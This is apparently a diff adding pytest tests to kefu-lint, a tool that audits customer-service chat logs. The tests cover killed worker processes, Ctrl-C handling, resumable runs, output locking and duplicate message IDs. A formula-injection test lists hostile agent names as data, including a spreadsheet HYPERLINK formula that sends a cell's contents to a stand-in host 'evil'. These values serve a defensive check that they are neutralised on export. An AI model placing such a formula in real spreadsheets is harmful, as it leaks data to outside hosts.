@@ -6,9 +6,12 @@ from __future__ import annotations
 import csv
 import gzip
 import json
+import os
+import signal
 import sqlite3
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pytest
@@ -210,7 +213,7 @@ def test_disk_full_is_a_clear_error_and_the_run_resumes(tmp_path, mount_tmpfs):
 def test_read_only_out_and_unwritable_report_are_clear_errors(tmp_path, mount_tmpfs):
     log = write_jsonl(tmp_path / "log.jsonl", good_lines(8))
     read_only = mount_tmpfs("ro,size=1m")
-    assert_clean_failure(audit(log, "--out", read_only / "out"), f"{read_only}/out/audit.db: cannot write:", "Read-only file system")
+    assert_clean_failure(audit(log, "--out", read_only / "out"), f"{read_only}/out: cannot write: Read-only file system")
     (tmp_path / "a-file").write_text("", encoding="utf-8")
     result = audit(log, "--out", tmp_path / "out", "--report", tmp_path / "a-file" / "report.html")
     assert_clean_failure(result, "report.html: cannot write")
@@ -232,3 +235,160 @@ def test_a_database_that_is_not_one_or_is_corrupt_or_old_is_a_clear_error(tmp_pa
     with sqlite3.connect(old / "audit.db") as db:
         db.execute("UPDATE meta SET value = '1' WHERE key = 'schema_version'")
     assert_clean_failure(audit(log, "--out", old), "written by another version of kefu-lint (schema 1")
+
+
+# ----------------------------------------------------------------------------- D2, D1, D28: a supervisor for --jobs
+
+def children(pid: int) -> list[int]:
+    found = []
+    for task in Path(f"/proc/{pid}/task").iterdir():
+        found += [int(child) for child in (task / "children").read_text().split()]
+    return found
+
+
+def alive(pid: int) -> bool:
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except (FileNotFoundError, ProcessLookupError):
+        return False
+    return state != "Z"  # a zombie has exited; only its parent's reaping is left
+
+
+def wait_until(condition, what: str, limit: float = 120):
+    """A hang guard, not a timing assertion: the condition is expected long before."""
+    deadline = time.monotonic() + limit
+    while not condition():
+        assert time.monotonic() < deadline, what
+        time.sleep(0.05)
+
+
+@pytest.fixture(scope="module")
+def big_log(tmp_path_factory):
+    return write_jsonl(tmp_path_factory.mktemp("big") / "big.jsonl", good_lines(40_000))  # 10,000 conversations
+
+
+def start_audit(log: Path, out: Path, *extra: str) -> subprocess.Popen:
+    process = subprocess.Popen([KEFU_LINT, "audit", "--no-progress", str(log), "--out", str(out), "--jobs", "2", *extra],
+                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
+
+    def scoring():
+        assert process.poll() is None, process.communicate()
+        try:
+            return rows(out / "audit.db", "SELECT COUNT(*) FROM conversations")[0][0] > 0
+        except sqlite3.Error:
+            return False
+
+    wait_until(scoring, "the audit never started scoring")
+    return process
+
+
+def finish(process: subprocess.Popen):
+    stdout, stderr = process.communicate(timeout=120)
+    return process.returncode, stdout.decode("utf-8", "replace"), stderr.decode("utf-8", "replace")
+
+
+def assert_resumes(log: Path, out: Path):
+    resumed = audit(log, "--out", out, "--resume", "--jobs", "2")
+    assert resumed.returncode == 0, resumed.out + resumed.err
+    assert "lines read 40000 = 40000 scored + 0 rejected (totals reconcile)" in resumed.out
+    assert rows(out / "audit.db", "SELECT COUNT(*) FROM conversations") == [(10_000,)]
+
+
+def test_a_killed_worker_stops_the_run_with_a_clear_error_and_it_resumes(tmp_path, big_log):
+    out = tmp_path / "out"
+    process = start_audit(big_log, out)
+    workers = children(process.pid)
+    assert len(workers) >= 2
+    os.kill(workers[0], signal.SIGKILL)  # as the OOM killer would
+    code, _, stderr = finish(process)  # before the fix: the parent waited forever
+    assert code == 2 and "Traceback" not in stderr, stderr
+    assert "a worker process of the audit died" in stderr and "--resume" in stderr
+    wait_until(lambda: not any(alive(pid) for pid in workers), "a worker outlived the run")
+    assert_resumes(big_log, out)
+
+
+def test_no_worker_outlives_a_parent_killed_with_kill_9(tmp_path, big_log):
+    out = tmp_path / "out"
+    process = start_audit(big_log, out)
+    workers = children(process.pid)
+    process.send_signal(signal.SIGKILL)
+    process.wait()
+    wait_until(lambda: not any(alive(pid) for pid in workers), "a worker outlived its parent")
+    assert_resumes(big_log, out)
+
+
+def test_ctrl_c_with_two_jobs_prints_one_line_and_no_worker_traceback(tmp_path, big_log):
+    out = tmp_path / "out"
+    process = start_audit(big_log, out)
+    workers = children(process.pid)
+    os.killpg(process.pid, signal.SIGINT)  # a terminal's Ctrl-C reaches the whole process group
+    code, _, stderr = finish(process)
+    assert code == 2 and "Traceback" not in stderr and "KeyboardInterrupt" not in stderr, stderr
+    assert stderr.strip().splitlines() == [f"error: interrupted: what was committed to {out}/audit.db is kept;"
+                                           " rerun with --resume to go on"]
+    wait_until(lambda: not any(alive(pid) for pid in workers), "a worker outlived the run")
+    assert_resumes(big_log, out)
+
+
+# ----------------------------------------------------------------------------- D14
+
+def test_agents_csv_is_safe_from_formula_injection(tmp_path):
+    names = ['=HYPERLINK("http://evil/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "小美"]
+    lines = []
+    for number, name in enumerate(names):
+        lines += [message(f"c{number}", "customer", "在吗"), message(f"c{number}", "agent", "您好，在的", agent=name)]
+    out = tmp_path / "out"
+    assert audit(write_jsonl(tmp_path / "evil.jsonl", lines), "--out", out).returncode == 0
+    with (out / "agents.csv").open(encoding="utf-8-sig", newline="") as handle:
+        agents = [row["agent"] for row in csv.DictReader(handle)]
+    assert sorted(agents) == sorted("'" + name if name != "小美" else name for name in names)
+
+
+# ----------------------------------------------------------------------------- D7
+
+def test_a_repeated_message_id_is_rejected_not_scored_twice(tmp_path):
+    conversation = [message("c1", "customer", "在吗", message_id="m1"), message("c1", "agent", "不行", message_id="m2")]
+    other = [message("c2", "customer", "在吗", message_id="m1")]  # ids are per conversation: not a repeat
+    for jobs in ("1", "2"):
+        out = tmp_path / f"out{jobs}"
+        log = write_jsonl(tmp_path / "twice.jsonl", conversation + conversation + other)
+        result = audit(log, "--out", out, "--jobs", jobs)
+        assert result.returncode == 0, result.out + result.err
+        assert "lines read 5 = 3 scored + 2 rejected (totals reconcile)" in result.out
+        assert f"twice.jsonl:3: rejected: duplicate message_id 'm1': already read at {log}:1" in result.err
+        assert rows(out / "audit.db", "SELECT COUNT(*) FROM findings WHERE code = 'KF101'") == [(1,)]
+
+
+# ----------------------------------------------------------------------------- D4, D5
+
+def test_a_second_audit_into_the_same_out_is_refused_while_the_first_runs(tmp_path, big_log):
+    out = tmp_path / "kefu-audit"
+    first = start_audit(big_log, out)
+    second = audit(write_jsonl(tmp_path / "other.jsonl", good_lines(8)), "--out", out)
+    assert_clean_failure(second, f"{out} is in use by another audit running now")
+    code, stdout, stderr = finish(first)
+    assert code == 0 and "(totals reconcile)" in stdout, stdout + stderr
+    lines = (out / "conversations.jsonl").read_text(encoding="utf-8").splitlines()
+    assert len(lines) == 10_000 and all(json.loads(line)["conversation_id"].startswith("c") for line in lines)
+    # the lock goes with the audit that held it: the next one runs
+    assert audit(tmp_path / "other.jsonl", "--out", out).returncode == 0
+
+
+def test_the_same_log_by_another_name_or_from_stdin_is_the_same_run(tmp_path):
+    lines = good_lines(12)
+    log = write_jsonl(tmp_path / "x.jsonl", lines)
+    copy = write_jsonl(tmp_path / "copy.jsonl", lines)
+    out = tmp_path / "out"
+
+    def run_from(directory: Path, *args, stdin: bytes | None = None):
+        result = subprocess.run([KEFU_LINT, "audit", "--no-progress", *map(str, args), "--out", str(out)], cwd=directory,
+                                input=stdin, capture_output=True, text=stdin is None, timeout=300)
+        assert result.returncode == 0, result
+        return result.stdout if stdin is None else result.stdout.decode()
+
+    run_from(tmp_path, "./x.jsonl")
+    for again in (run_from(tmp_path, log.resolve()), run_from(tmp_path / "out", "../x.jsonl"), run_from(tmp_path, copy),
+                  run_from(tmp_path, "-", stdin=log.read_bytes())):
+        assert "already audited" in again
+    assert rows(out / "audit.db", "SELECT COUNT(*), SUM(messages) FROM runs") == [(1, 12)]
+    assert not list(out.glob("stdin-*")), "a stdin audit leaves no copy of its input behind"
